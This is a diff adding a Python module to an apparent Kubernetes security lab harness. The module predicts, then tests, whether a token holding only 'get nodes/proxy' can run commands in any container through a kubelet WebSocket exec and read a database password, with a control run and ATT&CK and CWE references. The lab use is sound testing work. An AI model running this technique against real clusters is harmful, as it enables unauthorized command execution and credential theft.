@@ -1,0 +1,130 @@
+"""Run a command in any container with no more than the right to ``get`` ``nodes/proxy``.
+
+A WebSocket begins as a GET, and the kubelet authorizes it as one: the verb is get, whatever is
+run afterwards. So the right that monitoring agents were given "to read only" is none.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import View
+from labkit.model.graph import credential
+from labkit.model.rights import Action, bearer_at_kubelet, may_at_kubelet
+from labkit.model.workloads import token_caller, token_in
+from labkit.techniques._base import POD, SECRETS, Prediction, Technique
+from labkit.techniques._kubelet import CHANNEL, patiently
+from labkit.techniques._pod import find_pod, token_of
+from labkit.techniques._reach import inside, run
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.cluster import Environment
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+#: Who holds the right: a pod whose token the kubelets are to know.
+AGENT = ("monitoring", "agent")
+KUBELET = "kubelet@worker1"
+WANTED = ("shop", "db-credentials", "password")
+PATH = "/exec/shop/web/web?command=env&output=1&error=1"
+PROGRAM = Path(__file__).with_name("_websocket.py").read_text()
+ACTION = Action("get", "nodes/proxy", name="worker1")
+SWITCHING, REFUSED = 101, (401, 403)
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whom the kubelet takes the agent for, and what it lets him get."""
+    env, kubelet = view.env, view.env.component(KUBELET)
+    agent = token_caller(env, *AGENT)
+    if agent is None:
+        return Prediction(False, (str(token_in(env, *AGENT)),))
+    caller = bearer_at_kubelet(env, kubelet, agent)
+    claim = may_at_kubelet(env, kubelet, caller, ACTION)
+    because = (str(caller.claim), str(claim)) if claim.value == "allowed" else (str(claim),)
+    return Prediction(claim.value == "allowed", because)
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Run ``env`` in the pod shop/web with the token of monitoring/agent, from there."""
+    return patiently(lambda: _attempt(lab, foothold))
+
+
+def _attempt(lab: Lab, foothold: str) -> Verdict:
+    secret = true_secret(lab, *WANTED)
+    channel = View(lab.environment).channels(CHANNEL)[0]
+    pod = find_pod(lab, *AGENT)
+    token = token_of(lab, pod)
+    if token is None:
+        raise ProbeError("the agent has no token, and it should")
+
+    def call(node: str, prefix: list[str], bearer: str, *pair: str) -> dict[str, Any]:
+        where = [inside(lab, "worker1"), str(channel.port), PATH]
+        argv = [*prefix, "python3", "-c", PROGRAM, *where, *pair]
+        output = run(lab, node, argv, stdin=bearer.encode())
+        if output.exit_code:
+            last = output.error.strip().splitlines()[-1:]
+            error = ProbeTimeout if "TimeoutError" in output.error else ProbeError
+            raise error(f"{TECHNIQUE.name}: no answer to the handshake", evidence=last)
+        said: dict[str, Any] = json.loads(output.stdout)
+        if said["status"] not in (SWITCHING, *REFUSED):
+            raise ProbeError(f"{TECHNIQUE.name}: HTTP {said['status']}", evidence=[said["body"]])
+        if said["status"] == SWITCHING and not secret.found_in(base64.b64decode(said["output"])):
+            raise ProbeError(
+                "the command ran, but did not say what it should", evidence=[said["end"]]
+            )
+        return said
+
+    said = call(pod.node, pod.prefix, token)
+    asked = "GET /exec/shop/web/web at worker1, to become a WebSocket, with the agent's token"
+    if said["status"] == SWITCHING:
+        evidence = (asked, f"ran env in shop/web over {said['protocol']}", f"read: {secret.proof}")
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "HTTP 101", evidence)
+    held = credential(View(lab.environment).graph, channel)
+    if held is None:
+        raise ProbeError("the apiserver has no certificate for the kubelets")
+    node = channel.client.partition("@")[2]
+    if call(node, [], "", held.certificate, held.key)["status"] != SWITCHING:
+        raise ProbeError("the kubelet does not serve the apiserver either")
+    control = "with the apiserver's certificate, the same WebSocket runs the command"
+    reason = f"HTTP {said['status']}"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)
+
+
+def _settings(env: Environment) -> list[Setting]:
+    view = View(env)
+    agent = token_caller(env, *AGENT)
+    if agent is None:
+        token = token_in(env, *AGENT)
+        return [("what the agent may get", token.value, str(token.source))]
+    kubelet = env.component(KUBELET)
+    claim = may_at_kubelet(env, kubelet, bearer_at_kubelet(view.env, kubelet, agent), ACTION)
+    return [("whether the agent may get nodes/proxy", claim.value, str(claim.source))]
+
+
+TECHNIQUE = Technique(
+    name="nodes-proxy-exec",
+    title="Run a command in any container with the right to get nodes/proxy",
+    footholds=(POD,),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1609", "T1528", "T1552.007"),
+    stride=("elevation of privilege", "information disclosure"),
+    cwe=("CWE-863", "CWE-250"),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/#get-nodes-proxy-warning",
+        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#access-to-proxy-subresource-of-nodes",
+        "https://github.com/kubernetes/kubernetes/pull/136550",
+        "https://attack.mitre.org/techniques/T1609/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
